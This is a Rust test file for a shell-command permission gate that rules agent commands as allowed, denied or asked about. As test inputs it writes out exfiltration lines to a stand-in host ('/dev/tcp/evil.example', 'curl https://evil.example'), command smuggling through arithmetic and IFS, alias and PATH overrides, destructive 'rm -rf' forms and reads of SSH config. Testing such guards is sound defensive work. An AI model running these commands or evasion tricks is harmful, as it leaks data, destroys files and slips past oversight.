//! Guards, each attacked where it holds: with its check taken out, the test of that name fails.
//!
//! Guards that other suites attack are not here; README.md lists them all.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

use std::collections::BTreeMap;
use toolgate_bash::ast::Span;
use toolgate_policy::analyse::{Analysis, CommandRun, Links};
use toolgate_policy::batch::{Answer, Judge, Request};
use toolgate_policy::decide::{Answered, NetworkScope, Policy, decide, decide_unread};
use toolgate_policy::effect::{Effect, Kind};
use toolgate_policy::permissions::{
    BlockList, ConfirmList, PermissionAction, PermissionPolicy, PermissionRule, Touch,
};
use toolgate_policy::profile::Setting;
use toolgate_policy::profile::Verdict::{self, Allow, Ask, Deny};
use toolgate_policy::rule::{Layer, RuleText, Rules};
use toolgate_policy::tool::Value;
use toolgate_policy::word::Word;

fn strings(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| (*s).to_owned()).collect()
}

fn plain() -> Judge<'static> {
    Judge::new("/home/dev", "/home/dev/work/repo")
}

fn command(text: &str) -> Request {
    Request::Command { text: text.to_owned(), cwd: None }
}

fn answer(judge: &Judge<'_>, text: &str) -> Answer {
    judge.judge(&command(text))
}

fn verdict(judge: &Judge<'_>, text: &str) -> Verdict {
    answer(judge, text).verdict
}

fn by_default(text: &str) -> Verdict {
    verdict(&plain(), text)
}

#[track_caller]
fn asked_because(text: &str, why: &str) {
    let answer = answer(&plain(), text);
    assert_ne!(answer.verdict, Allow, "{text}");
    assert!(answer.reasons.iter().any(|r| r.message.contains(why)), "{text}: {:?}", answer.reasons);
}

fn rule(action: &str) -> RuleText {
    RuleText { name: "r".into(), action: action.into(), ..RuleText::default() }
}

fn with_rules(texts: &[RuleText]) -> Judge<'static> {
    let rules = Rules::compile(texts, Layer::User).unwrap();
    plain().by(Policy { rules, ..Policy::default() })
}

fn refused(text: RuleText) -> String {
    Rules::compile(&[text], Layer::User).unwrap_err().what
}

// Rules, when they are loaded.

#[test]
fn a_rule_with_words_that_say_nothing_does_not_load() {
    let tool = RuleText { tool: strings(&["bash"]), matches: strings(&["ls"]), ..rule("deny") };
    assert!(refused(tool).contains("tool alone"));
    let autonomy = RuleText { effect: strings(&["write"]), autonomy: strings(&["none"]), ..rule("deny") };
    assert!(refused(autonomy).contains("autonomy"));
    let one = RuleText { effect: strings(&["write"]), ..rule("ask") };
    assert!(Rules::compile(&vec![one.clone(); Rules::MOST], Layer::User).is_ok());
    assert!(Rules::compile(&vec![one; Rules::MOST + 1], Layer::User).is_err());
}

// Rules, where something is not known.

#[test]
fn a_rule_that_denies_asks_where_a_word_a_host_or_a_path_may_be_its_own() {
    let words =
        with_rules(&[RuleText { program: strings(&["echo"]), args: strings(&["x"]), ..rule("deny") }]);
    assert_eq!(by_default("echo \"$X\""), Allow);
    assert_eq!(verdict(&words, "echo \"$X\""), Ask);
    assert_eq!(verdict(&words, "echo y"), Allow);

    let open = |judge: Judge<'static>| Judge { network: NetworkScope::Allow, ..judge };
    let hosts = with_rules(&[RuleText {
        effect: strings(&["net fetch"]),
        host: strings(&["evil.example"]),
        ..rule("deny")
    }]);
    assert_eq!(verdict(&open(plain()), "curl \"https://$HOST/x\""), Allow);
    assert_eq!(verdict(&open(hosts), "curl \"https://$HOST/x\""), Ask);

    let paths =
        with_rules(&[RuleText { path: strings(&["src/**"]), effect: strings(&["read"]), ..rule("deny") }]);
    let somewhere = Analysis {
        effects: vec![Effect { path: None, target: None, ..effect(Kind::Read, "src/x") }],
        ..Analysis::default()
    };
    let request = command("");
    let decided = |judge: &Judge<'_>| judge.decide(&somewhere, &request);
    assert!(decided(&paths).reasons.iter().any(|r| r.code == "asked-by-rule"));
}

#[test]
fn what_happens_to_a_directory_happens_to_what_a_rule_names_in_it() {
    let named = || strings(&["src/secret/**"]);
    let deny = with_rules(&[RuleText { path: named(), ..rule("deny") }]);
    assert_eq!(verdict(&deny, "rm -rf src"), Deny);
    assert_eq!(verdict(&deny, "grep -r x src"), Ask);
    assert_eq!(verdict(&deny, "grep -r x docs"), Allow);
    let allow = with_rules(&[RuleText { path: named(), effect: strings(&["delete"]), ..rule("allow") }]);
    assert_eq!(verdict(&allow, "rm -rf src/secret/x"), Allow);
    assert_eq!(verdict(&allow, "rm -rf src"), Ask);
}

#[test]
fn an_allowed_domain_opens_the_hosts_below_it_alone_and_a_denied_one_closes_itself_too() {
    let judge = plain();
    let fires = |action: &str, text: &str| {
        let about = RuleText { host: strings(&["*.example.com"]), ..rule(action) };
        let rules = Rules::compile(&[about], Layer::User).unwrap();
        !rules.fired(&judge.analyse(&command(text)), &judge.caller, &judge.map).is_empty()
    };
    for action in ["allow", "deny"] {
        assert!(fires(action, "curl https://a.example.com/x"), "{action}");
    }
    assert!(!fires("allow", "curl https://example.com/x"));
    assert!(fires("deny", "curl https://example.com/x"));
}

// Rules, against each other and about who calls.

#[test]
fn a_laxer_rule_against_keeps_an_allow_from_lifting_a_refusal() {
    let keys = |action: &str, path: &str| RuleText {
        path: strings(&[path]),
        effect: strings(&["read"]),
        ..rule(action)
    };
    let allow = || keys("allow", "~/.ssh/**");
    assert_eq!(verdict(&with_rules(&[allow()]), "cat ~/.ssh/config"), Allow);
    assert_eq!(verdict(&with_rules(&[allow(), keys("ask", "~/.ssh/config")]), "cat ~/.ssh/config"), Deny);
}

#[test]
fn a_rule_about_a_tool_is_about_that_tool_and_all_it_does() {
    let about = |tool: &str, action: &str| RuleText { tool: strings(&[tool]), ..rule(action) };
    assert_eq!(verdict(&with_rules(&[about("bash", "deny")]), "ls"), Deny);
    let effect = RuleText { effect: strings(&["list"]), ..about("mcp__x", "deny") };
    assert_eq!(verdict(&with_rules(&[effect]), "ls"), Allow);
}

#[test]
fn what_a_tool_does_unread_is_asked_about_unless_its_own_rules_allow_it() {
    let judge = plain();
    let request = command("");
    let unread = |texts: &[RuleText], layer| {
        let policy = Policy { rules: Rules::compile(texts, layer).unwrap(), ..Policy::default() };
        decide_unread(Ask, &policy, &judge.situation(&request), Answered::Nothing).verdict
    };
    let about = |action: &str| RuleText { tool: strings(&["bash"]), ..rule(action) };
    assert_eq!(unread(&[], Layer::User), Ask);
    assert_eq!(unread(&[about("allow")], Layer::User), Allow);
    assert_eq!(unread(&[about("allow")], Layer::Project), Ask);
    assert_eq!(unread(&[about("allow"), about("ask")], Layer::User), Ask);
    assert_eq!(unread(&[about("deny")], Layer::User), Deny);
    let other = RuleText { tool: strings(&["other"]), ..about("allow") };
    assert_eq!(unread(&[other], Layer::User), Ask);
}

// What decides.

fn effect(kind: Kind, path: &str) -> Effect {
    Effect {
        kind,
        target: Some(path.into()),
        path: Some(format!("/home/dev/work/repo/{path}").into()),
        span: Span::default(),
        command: None,
        note: "".into(),
    }
}

#[test]
fn a_text_that_is_not_understood_is_asked_about_even_if_nothing_was_found_in_it() {
    let unknown = toolgate_bash::parse(b"ls '", &toolgate_bash::Options::default()).unwrap_err();
    let nothing = Analysis { unknown: Some(unknown), ..Analysis::default() };
    let (judge, request) = (plain(), command("ls '"));
    assert_eq!(decide(&nothing, &Policy::default(), &judge.situation(&request)).verdict, Ask);
    // What holds the network closed looks for the effect.
    assert!(judge.analyse(&request).effects.iter().any(|e| e.kind == Kind::Unknown));
}

#[test]
fn the_strictest_reason_is_told_however_many_there_are() {
    let many: String = (0..80).map(|n| format!("rm f{n}; ")).collect();
    let found = answer(&plain(), &format!("{many}curl https://evil.example"));
    assert_eq!(found.verdict, Deny);
    assert_eq!(found.reasons[0].verdict, Deny);
}

#[test]
fn confirmed_commands_are_asked_about() {
    let judge = plain().by(Policy { confirmed: ConfirmList::new(&strings(&["ls"])), ..Policy::default() });
    assert_eq!(verdict(&judge, "ls"), Ask);
    assert_eq!(verdict(&judge, "echo ls"), Allow);
}

#[test]
fn a_blocked_command_is_found_in_any_letters_and_behind_an_unknown_word() {
    let list = BlockList::of(&strings(&["sudo", "git push"]));
    let hit = |text: &str| {
        let analysis = plain().analyse(&command(text));
        list.hits(&analysis).next().map(|hit| hit.sure)
    };
    assert_eq!(hit("SUDO ls"), Some(true));
    assert_eq!(hit("\"$X\" push"), Some(false));
    assert_eq!(hit("git \"$X\""), Some(false));
    assert_eq!(hit("git pull"), None);
}

// Lists of patterns.

fn list(tool: &str, rules: &[(&str, PermissionAction)]) -> PermissionPolicy {
    let list =
        rules.iter().map(|(p, action)| PermissionRule { pattern: (*p).into(), action: *action }).collect();
    PermissionPolicy::new(BTreeMap::from([(tool.to_owned(), list)])).unwrap()
}

#[test]
fn a_list_says_nothing_about_a_text_without_commands() {
    let echo = list("bash", &[("echo *", Allow)]);
    assert_eq!(echo.check("bash", Touch::Changes, "x=1"), Ask);
    assert_eq!(echo.check("bash", Touch::Changes, "echo '"), Ask);
    assert_eq!(echo.check("bash", Touch::Changes, "echo a"), Allow);
}

#[test]
fn the_strictest_input_of_a_call_counts() {
    let read = list("read", &[("/etc/*", Deny), ("*", Allow)]);
    let inputs = [vec!["src/a".to_owned()], vec!["/etc/x".to_owned()], vec!["src/b".to_owned()]];
    assert_eq!(read.on_inputs("read", &inputs).unwrap().action, Deny);
}

#[test]
fn a_list_without_entries_denies_nothing_and_a_pattern_has_an_end() {
    assert!(!list("bash", &[]).is_fully_denied("bash"));
    assert!(list("bash", &[("*", Deny)]).is_fully_denied("bash"));
    let long = |n| {
        let rule = PermissionRule { pattern: "x".repeat(n), action: Deny };
        PermissionPolicy::new(BTreeMap::from([("bash".to_owned(), vec![rule])]))
    };
    assert!(long(1024).is_ok() && long(1025).is_err());
}

// Places.

#[test]
fn a_variable_that_may_be_unset_counts_as_the_worst_it_can_be() {
    for text in ["rm -rf \"$X/\"", "rm -rf \"$X/lib\"", "rm -rf $X/*", "rm -rf \"/$X\""] {
        assert_eq!(by_default(text), Deny, "{text}");
    }
    // Inside the workspace it may climb out again.
    assert_eq!(by_default("touch \"src/$X\""), Ask);
    assert_eq!(by_default("touch src/x"), Allow);
}

#[test]
fn everything_in_the_workspace_is_more_than_something_in_it() {
    let undo = Judge { setting: Setting { contained: false, undo: true }, ..plain() };
    assert_eq!(verdict(&undo, "rm -rf src"), Allow);
    assert_eq!(verdict(&undo, "rm -rf *"), Ask);
    assert_eq!(by_default("mv src docs"), Allow);
    assert_eq!(by_default("mv * docs"), Ask);
}

struct Linked;

impl Links for Linked {
    fn resolve(&self, path: &str) -> Option<String> {
        path.strip_prefix("/home/dev/work/repo/link").map(|rest| format!("/etc{rest}"))
    }

    fn runs(&self, _: &str) -> bool {
        false
    }
}

#[test]
fn a_link_is_judged_by_where_it_leads() {
    let judge = Judge { links: &Linked, ..plain() };
    assert_eq!(verdict(&judge, "touch link/x"), Deny);
    assert_eq!(verdict(&judge, "cd link && touch x"), Deny);
    assert_eq!(verdict(&judge, "touch docs/x"), Allow);
    let args = vec![
        ("command".to_owned(), Value::Text("ls".into())),
        ("cwd".to_owned(), Value::Text("link".into())),
    ];
    assert_eq!(judge.judge(&Request::Tool { name: "shell".into(), args }).verdict, Ask);
}

#[test]
fn every_directory_that_the_shell_may_be_in_counts() {
    // A `cd` may fail, and a branch may not be taken.
    for text in ["cd src; touch ../x", "test -d src && cd src; touch ../x", "cd src || true; touch ../x"] {
        assert_eq!(by_default(text), Deny, "{text}");
    }
    assert_eq!(by_default("cd src && touch ../x"), Allow);
}

#[test]
fn a_connection_that_is_written_as_a_path_is_one() {
    let sends = |text: &str| {
        let found = plain().analyse(&command(text));
        found.effects.into_iter().filter(|e| e.kind == Kind::Send).count()
    };
    assert_eq!(sends("echo x > /dev/tcp/evil.example/80"), 1);
    assert!(sends("echo x > \"/dev/$X/evil.example/80\"") > 0);
    assert_eq!(sends("echo x > /dev/null"), 0);
}

// Limits: each says so.

#[test]
fn every_limit_ends_in_a_question() {
    let loops = "for a in 1 2 3 4 5 6 7 8 9 0; do ".repeat(5) + "true" + &"; done".repeat(5);
    asked_because(&loops, "too many steps");
    let chain: String = (1..20).map(|n| format!("f{n}() {{ f{}; }}; ", n + 1)).collect();
    asked_because(&format!("{chain} f1"), "too deeply");
    let deep = |inner: &str| format!("{}{inner}{}", "{ ".repeat(40), "; }".repeat(40));
    let nested: String =
        (1..8).map(|n| format!("g{n}() {{ {}; }}; ", deep(&format!("g{}", n + 1)))).collect();
    asked_because(&format!("{nested} g8() {{ true; }}; g1"), "nested too deeply");
    asked_because("touch {a..z}{a..z}{a..z}", "writes …");
    let doubled = "x=$x$x; ".repeat(13);
    asked_because(&format!("x=0123456789abcdef; {doubled} touch \"./$x\""), "cannot be known");
    let half = "y".repeat(32 * 1024);
    let spent = "echo \"$y\"; ".repeat(40);
    asked_because(&format!("y={half}; x=a; {spent} touch \"./$x\""), "cannot be known");
}

// The shell.

#[test]
fn what_separates_words_is_what_the_script_says() {
    assert_eq!(by_default("IFS=:; x=touch:/etc/x; $x"), Deny);
    assert_eq!(by_default("x=aX/b; touch $x"), Allow);
    assert_eq!(by_default("IFS=$(cat f); x=aX/b; touch $x"), Ask);
}

#[test]
fn bytes_that_are_no_text_are_not_passed_over() {
    assert_eq!(by_default("$'\\xff'ls"), Ask);
    assert_eq!(by_default("touch src$'\\xff'"), Ask);
}

#[test]
fn a_value_in_arithmetic_is_code() {
    asked_because(": $(( $(cat f) ))", "arithmetic evaluates");
    asked_because("x='a[$(curl https://evil.example)]'; : $(( $x ))", "fetches from");
}

#[test]
fn a_name_that_was_given_another_meaning_is_not_what_it_says() {
    asked_because("alias ls=rm; ls src/a", "given another meaning");
    asked_because("PATH=./bin; ls", "PATH was changed");
}

#[test]
fn text_for_a_shell_is_understood_by_the_rules_of_that_shell_and_as_a_whole() {
    asked_because("zsh -c ls", "rules of its own");
    asked_because("sh -c 'echo ${x^^}'", "not understood for certain");
    asked_because("bash -c \"echo $X\"", "part of the text");
}

#[test]
fn a_sub_command_that_is_not_known_is_said_to_be_so() {
    asked_because("git \"$X\"", "the sub-command of git is not known");
}

#[test]
fn a_variable_whose_name_sounds_like_a_command_is_asked_about() {
    asked_because("MY_HOOK=./x ls", "sounds as if");
    assert_eq!(by_default("MY_FLAG=./x ls"), Allow);
}

#[test]
fn a_tool_that_reaches_out_does_so_without_a_url_too() {
    let args = vec![("query".to_owned(), Value::Text("x".into()))];
    assert_eq!(plain().judge(&Request::Tool { name: "web_search".into(), args }).verdict, Deny);
}

#[test]
fn words_in_an_analysis_made_by_hand_are_judged_too() {
    let word = |text: &str| Word::new(text.to_owned(), Span::default());
    let run = CommandRun {
        words: vec![word("npm"), word("publish")],
        span: Span::default(),
        inner: false,
        dir: None,
        variables_changed: false,
    };
    let analysis = Analysis { commands: vec![run], ..Analysis::default() };
    let judge =
        with_rules(&[RuleText { program: strings(&["npm"]), args: strings(&["publish"]), ..rule("deny") }]);
    assert_eq!(judge.decide(&analysis, &command("")).verdict, Deny);
}

/// A machine on which there are these directories.
struct There(&'static [&'static str]);

impl Links for There {
    fn resolve(&self, _: &str) -> Option<String> {
        None
    }

    fn runs(&self, _: &str) -> bool {
        false
    }

    fn enters(&self, path: &str) -> bool {
        path.strip_prefix("/home/dev/work/repo").is_some_and(|dir| self.0.contains(&dir))
    }
}

#[test]
fn a_change_to_a_directory_that_is_there_is_no_doubt() {
    let judge = Judge { links: &There(&["", "/src"]), ..plain() };
    for sure in [
        "cd src; ls; cd ..; touch x",
        "cd src && ls; cd ..; touch x",
        "cd src; touch ../x",
        "echo x > y; cd src; make; cd ..; cd src; cargo build; cd ..; touch x",
    ] {
        assert_eq!(verdict(&judge, sure), Allow, "{sure}");
        assert_ne!(verdict(&plain(), sure), Allow, "{sure}");
    }
    for doubtful in [
        "cd other; cd ..; touch x",
        "cd src; cd other; cd ../..; touch x",
        "cd \"$D\"; cd ..; touch x",
        "[ -d src ] && cd src; cd ..; touch x",
        "ls && cd src; cd ..; touch x",
        "cd other || cd src; cd ..; touch x",
        "f() { cd other; }; f; cd ..; touch x",
        "eval 'cd other; ls'; cd ..; touch x",
        "rm -r src; cd src; cd ..; touch x",
        "mv src gone; cd src; cd ..; touch x",
        "unheard-of; cd src; cd ..; touch x",
        "git checkout main; cd src; cd ..; touch x",
        "git pull --rebase . main; cd src; cd ..; touch x",
        "tar xf a.tar; cd src; cd ..; touch x",
    ] {
        assert_ne!(verdict(&judge, doubtful), Allow, "{doubtful}");
    }
}
